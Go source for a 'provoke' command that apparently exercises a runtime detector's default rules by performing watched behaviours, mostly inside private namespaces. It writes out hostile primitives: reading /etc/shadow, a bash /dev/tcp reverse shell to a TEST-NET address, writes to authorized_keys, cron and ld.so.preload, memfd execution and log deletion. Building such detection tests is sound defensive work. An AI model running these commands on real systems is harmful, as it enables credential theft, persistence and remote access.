// SPDX-License-Identifier: Apache-2.0

// Command provoke does, one at a time and harmlessly, what the default rules
// watch for. Everything that would change the host happens in private mount
// and network namespaces, so nothing is left behind.
//
//	provoke NAME      do it (needs root)
//	provoke -list     name everything that can be done
package main

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"sort"
	"syscall"
	"time"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// step is one provocation. Isolated ones run in namespaces of their own, with
// the named folders replaced by empty ones.
type step struct {
	run      func() error
	isolated bool
	empty    []string // folders to hide behind an empty tmpfs
}

var steps = map[string]step{
	"read-shadow":   {run: readShadow},
	"spawn-shell":   {run: spawnShell},
	"setuid-bit":    {run: setuidBit},
	"outbound":      {run: outbound, isolated: true},
	"reverse-shell": {run: reverseShell, isolated: true},
	"ptrace":        {run: attach},
	"load-module":   {run: loadModule},
	"write-binary":  {run: write("/usr/local/bin/tiercel-provoked"), isolated: true, empty: []string{"/usr/local/bin"}},
	"write-ssh-key": {run: write("/root/.ssh/authorized_keys"), isolated: true, empty: []string{"/root"}},
	"write-cron":    {run: write("/etc/cron.d/tiercel-provoked"), isolated: true, empty: []string{"/etc"}},
	"write-preload": {run: write("/etc/ld.so.preload"), isolated: true, empty: []string{"/etc"}},
	"memfd-exec":    {run: memfdExec},
	"hidden-exec":   {run: hiddenExec, isolated: true, empty: []string{"/dev/shm"}},
	"delete-log":    {run: deleteLog, isolated: true, empty: []string{"/var/log"}},
	"truncate-log":  {run: truncateLog, isolated: true, empty: []string{"/var/log"}},
	"benign-reads":  {run: benignReads},
	"loopback":      {run: loopback},
	"failing-chmod": {run: failingChmod},
	"web-shell":     {run: as("httpd", "spawn-shell")},
	"ssh-odd-port":  {run: as("ssh", "dial"), isolated: true},
	"dial":          {run: dial},
}

func main() {
	// Namespaces belong to a thread; everything happens on this one.
	runtime.LockOSThread()
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: provoke NAME | -list")
		os.Exit(2)
	}
	if os.Args[1] == "-list" {
		names := make([]string, 0, len(steps))
		for n := range steps {
			names = append(names, n)
		}
		sort.Strings(names)
		for _, n := range names {
			fmt.Println(n)
		}
		return
	}
	s, ok := steps[os.Args[1]]
	if !ok {
		fmt.Fprintf(os.Stderr, "provoke: no such thing as %q (see provoke -list)\n", os.Args[1])
		os.Exit(2)
	}
	if err := prepare(s); err != nil {
		fmt.Fprintf(os.Stderr, "provoke %s: prepare: %v\n", os.Args[1], err)
		os.Exit(1)
	}
	if err := s.run(); err != nil {
		fmt.Fprintf(os.Stderr, "provoke %s: %v\n", os.Args[1], err)
		os.Exit(1)
	}
}

// prepare moves the thread into private namespaces and hides folders.
func prepare(s step) error {
	if !s.isolated {
		return nil
	}
	if err := unix.Unshare(unix.CLONE_NEWNS | unix.CLONE_NEWNET); err != nil {
		return fmt.Errorf("unshare: %w", err)
	}
	if err := unix.Mount("none", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
		return fmt.Errorf("make mounts private: %w", err)
	}
	for _, dir := range s.empty {
		if err := unix.Mount("tmpfs", dir, "tmpfs", 0, "mode=0755"); err != nil {
			return fmt.Errorf("hide %s: %w", dir, err)
		}
	}
	return nil
}

func readShadow() error { return exec.Command("cat", "/etc/shadow").Run() }

func spawnShell() error { return exec.Command("sh", "-c", "exit 0").Run() }

func setuidBit() error {
	f, err := os.CreateTemp("", "tiercel-provoke-")
	if err != nil {
		return err
	}
	defer os.Remove(f.Name())
	f.Close()
	return exec.Command("chmod", "u+s", f.Name()).Run()
}

// peer is an address of this thread's own network namespace (TEST-NET-3, RFC
// 5737): packets to it never leave the namespace.
const peer = "203.0.113.7"

// listen brings up the namespace's loopback with the peer address and accepts
// connections on it.
func listen() (net.Listener, error) {
	lo, err := netlink.LinkByName("lo")
	if err != nil {
		return nil, err
	}
	addr, err := netlink.ParseAddr(peer + "/32")
	if err != nil {
		return nil, err
	}
	if err := netlink.AddrAdd(lo, addr); err != nil {
		return nil, fmt.Errorf("give lo the address %s: %w", peer, err)
	}
	if err := netlink.LinkSetUp(lo); err != nil {
		return nil, err
	}
	l, err := net.Listen("tcp4", peer+":4444")
	if err != nil {
		return nil, err
	}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			time.AfterFunc(time.Second, func() { c.Close() })
		}
	}()
	return l, nil
}

func outbound() error {
	l, err := listen()
	if err != nil {
		return err
	}
	defer l.Close()
	return exec.Command("bash", "-c", "exec 3<>/dev/tcp/"+peer+"/4444").Run()
}

func reverseShell() error {
	l, err := listen()
	if err != nil {
		return err
	}
	defer l.Close()
	return exec.Command("bash", "-c", "exec 3<>/dev/tcp/"+peer+"/4444; exec 0<&3").Run()
}

// as runs another provocation from a copy of this program with another name.
func as(name, what string) func() error {
	return func() error {
		if what == "dial" {
			l, err := listen()
			if err != nil {
				return err
			}
			defer l.Close()
		}
		self, err := os.ReadFile("/proc/self/exe")
		if err != nil {
			return err
		}
		dir, err := os.MkdirTemp("", "tiercel-provoke-")
		if err != nil {
			return err
		}
		defer os.RemoveAll(dir)
		bin := filepath.Join(dir, name)
		if err := os.WriteFile(bin, self, 0o755); err != nil {
			return err
		}
		return exec.Command(bin, what).Run()
	}
}

func dial() error {
	c, err := net.Dial("tcp4", peer+":4444")
	if err != nil {
		return err
	}
	return c.Close()
}

func attach() error {
	victim := exec.Command("sleep", "5")
	if err := victim.Start(); err != nil {
		return err
	}
	defer func() { victim.Process.Kill(); victim.Wait() }()
	if err := unix.PtraceAttach(victim.Process.Pid); err != nil {
		return err
	}
	var st unix.WaitStatus
	if _, err := unix.Wait4(victim.Process.Pid, &st, 0, nil); err != nil {
		return err
	}
	return unix.PtraceDetach(victim.Process.Pid)
}

// loadModule offers the kernel a module that cannot be one.
func loadModule() error {
	if err := unix.InitModule([]byte("not a module"), "tiercel=provoked"); err == nil {
		return fmt.Errorf("the kernel took garbage for a module")
	}
	return nil
}

func write(path string) func() error {
	return func() error {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			return err
		}
		return os.WriteFile(path, []byte("# provoked\n"), 0o600)
	}
}

func memfdExec() error {
	prog, err := os.ReadFile("/bin/true")
	if err != nil {
		return err
	}
	fd, err := unix.MemfdCreate("provoked", unix.MFD_CLOEXEC)
	if err != nil {
		return err
	}
	if _, err := unix.Write(fd, prog); err != nil {
		return err
	}
	return exec.Command(fmt.Sprintf("/proc/%d/fd/%d", os.Getpid(), fd)).Run()
}

func hiddenExec() error {
	prog, err := os.ReadFile("/bin/true")
	if err != nil {
		return err
	}
	const path = "/dev/shm/provoked"
	if err := os.WriteFile(path, prog, 0o755); err != nil {
		return err
	}
	return exec.Command(path).Run()
}

func deleteLog() error {
	const path = "/var/log/provoked.log"
	if err := syscall.Mknod(path, syscall.S_IFREG|0o600, 0); err != nil {
		return err
	}
	return os.Remove(path)
}

func truncateLog() error {
	const path = "/var/log/provoked.log"
	if err := syscall.Mknod(path, syscall.S_IFREG|0o600, 0); err != nil {
		return err
	}
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_TRUNC, 0)
	if err != nil {
		return err
	}
	return f.Close()
}

// benignReads opens files that resemble the watched ones and must raise nothing.
func benignReads() error {
	for _, path := range []string{"/etc/passwd", "/etc/hosts"} {
		if _, err := os.ReadFile(path); err != nil {
			return err
		}
	}
	if _, err := os.ReadFile("/etc/shadow-that-is-not-there"); err == nil {
		return fmt.Errorf("found a file that should not exist")
	}
	return exec.Command("true").Run()
}

// loopback connects to loopback, which is no other machine.
func loopback() error {
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer l.Close()
	_, port, err := net.SplitHostPort(l.Addr().String())
	if err != nil {
		return err
	}
	return exec.Command("sh", "-c", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/"+port+"'").Run()
}

func failingChmod() error {
	if err := os.Chmod("/nonexistent/file", os.ModeSetuid|0o755); err == nil {
		return fmt.Errorf("changed the mode of a file that is not there")
	}
	return nil
}
